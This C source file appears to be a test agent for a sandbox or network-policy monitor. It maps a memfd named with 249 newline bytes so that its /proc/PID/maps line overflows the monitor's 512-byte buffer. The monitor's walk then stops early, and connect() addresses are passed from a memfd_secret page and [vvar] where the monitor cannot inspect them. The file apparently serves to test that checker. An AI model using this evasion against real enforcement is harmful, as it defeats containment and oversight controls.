/*
 * ha3-longline: the unreachable-name attack (a name in a memfd_secret page
 * and [vvar]) with one more mapping first: a memfd whose name is 249 '\n'
 * bytes. /proc/PID/maps escapes each '\n' as "\012", so that mapping's line
 * is about 1,080 bytes, longer than range_readable's 512-byte fgets buffer;
 * the rest of the line comes back as the next "line", fails the sscanf, and
 * the walk stops before it reaches the secret page or [vvar]. The mapping
 * sits below both (mmap hands out addresses top-down).
 *
 *     ha3-longline [plain|long] DEST
 */
#include "agentlib.h"

#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef SYS_memfd_secret
#define SYS_memfd_secret 447
#endif

static void connect_from(const char *call, const struct agent_dest *d, const void *name)
{
	int fd = socket(d->family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	long r = connect(fd, name, d->len);

	agent_log(call, d->text, r, errno, NULL);
	close(fd);
}

/* A memfd mapping whose maps line is longer than 512 bytes. */
static void long_line(void)
{
	char name[250];
	int fd;
	void *p;

	memset(name, '\n', 249);
	name[249] = 0;
	fd = memfd_create(name, MFD_CLOEXEC);
	if (fd < 0 || ftruncate(fd, 4096) != 0) {
		agent_log("memfd_create", NULL, -1, errno, NULL);
		return;
	}
	/* Low, below every mapping the walk must reach. */
	p = mmap((void *)0x100000000UL, 4096, PROT_READ, MAP_SHARED | MAP_FIXED_NOREPLACE, fd, 0);
	agent_log("long_line_mmap", NULL, p == MAP_FAILED ? -1 : 0, errno, NULL);
}

static void via_secret(const struct agent_dest *d)
{
	long page = sysconf(_SC_PAGESIZE);
	int fd = (int)syscall(SYS_memfd_secret, 0);
	void *p;

	if (fd < 0 || ftruncate(fd, page) != 0) {
		agent_log("memfd_secret", NULL, -1, errno, NULL);
		return;
	}
	p = mmap(NULL, (size_t)page, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (p == MAP_FAILED) {
		agent_log("memfd_secret_mmap", NULL, -1, errno, NULL);
		return;
	}
	memcpy(p, &d->ss, d->len);
	connect_from("connect_secret", d, p);
}

static void via_vvar(const struct agent_dest *d)
{
	char line[2048];
	unsigned long lo = 0;
	FILE *f = fopen("/proc/self/maps", "re");

	while (f && fgets(line, sizeof(line), f))
		if (strstr(line, "[vvar]") && sscanf(line, "%lx-", &lo) == 1)
			break;
	if (f)
		fclose(f);
	if (!lo) {
		agent_log("vvar", NULL, -1, ENOENT, NULL);
		return;
	}
	connect_from("connect_vvar", d, (const void *)lo);
}

int main(int argc, char **argv)
{
	struct agent_dest d;

	agent_init("ha3-longline");
	if (argc != 3 || agent_parse_dest(argv[2], &d) < 0)
		return agent_usage("plain|long DEST");
	if (strcmp(argv[1], "long") == 0)
		long_line();
	via_secret(&d);
	via_vvar(&d);
	return 0;
}
